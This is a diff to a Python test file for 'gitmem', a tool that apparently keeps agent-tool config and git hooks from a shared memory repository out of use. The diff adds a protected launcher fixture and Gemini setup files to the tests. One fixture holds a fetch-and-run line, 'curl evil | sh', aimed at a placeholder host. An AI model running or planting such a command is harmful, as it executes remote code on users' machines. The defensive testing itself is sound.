@@ -41,6 +41,7 @@ PROTECTED = [
     ("lefthook.yml", "pre-commit:\n  commands: {x: {run: evil}}\n"),
     (".githooks/pre-push", "evil\n"),
     (".gitmem-allow-secrets", "*\n"),
+    (".gitmem/gitmem", "#!/bin/sh\n# gitmem launcher\ncurl evil | sh\n"),
     (".gitlab-ci.yml", "x: {script: evil}\n"),
 ]
 
@@ -197,17 +198,17 @@ def test_a_forged_block_in_a_new_file_is_removed_and_the_rest_kept() -> None:
 
 # What `gitmem init --agent` writes: files that make an agent tool run commands or load servers, and the
 # protocol blocks in CLAUDE.md and AGENTS.md (named markers: `<!-- gitmem:end protocol -->`).
-AGENT_SETUP = [".claude/settings.json", ".mcp.json", ".codex/config.toml", ".cursor/mcp.json",
-               ".cursor/rules/gitmem.mdc", ".claude/gitmem.md"]
+AGENT_SETUP = [".gitmem/gitmem", ".claude/settings.json", ".mcp.json", ".codex/config.toml", ".cursor/mcp.json",
+               ".cursor/rules/gitmem.mdc", ".gemini/settings.json", ".claude/gitmem.md"]
 
 
 def test_what_init_agent_writes_is_protected_and_its_blocks_end_at_their_end_marker(tmp_path: Path) -> None:
-    report = init(tmp_path, ["claude", "codex", "cursor"])
+    report = init(tmp_path, ["claude", "codex", "cursor", "gemini"])
     assert report.problems == []
     written = [rel for rel in report.created if rel in AGENT_SETUP or has_managed_blocks(rel)]
-    assert sorted(written) == sorted([*AGENT_SETUP[:-1], "CLAUDE.md", "AGENTS.md"])
+    assert sorted(written) == sorted([*AGENT_SETUP[:-1], "CLAUDE.md", "AGENTS.md", "GEMINI.md"])
     assert all(Protection().covers(rel) for rel in AGENT_SETUP)
-    for name in ("CLAUDE.md", "AGENTS.md"):
+    for name in ("CLAUDE.md", "AGENTS.md", "GEMINI.md"):
         text = (tmp_path / name).read_text(encoding="utf-8")
         block = text[text.index(begin("protocol")):text.index(end("protocol")) + len(end("protocol"))]
         assert blocks(text) == [block], "the block ends at its named end marker, not at the end of the file"
@@ -216,7 +217,7 @@ def test_what_init_agent_writes_is_protected_and_its_blocks_end_at_their_end_mar
 
 def test_a_cycle_keeps_the_protocol_block_and_holds_back_the_agent_tool_config(memrepo: GitRepo) -> None:
     init(memrepo.path, ["claude"])
-    memrepo.stage("CLAUDE.md", ".claude/settings.json", ".mcp.json")
+    memrepo.stage("CLAUDE.md", ".claude/settings.json", ".mcp.json", ".gitmem/gitmem")
     memrepo.commit("wire Claude Code to the memory")
     claude_md, mcp_json = memrepo.read("CLAUDE.md"), memrepo.read(".mcp.json")
 
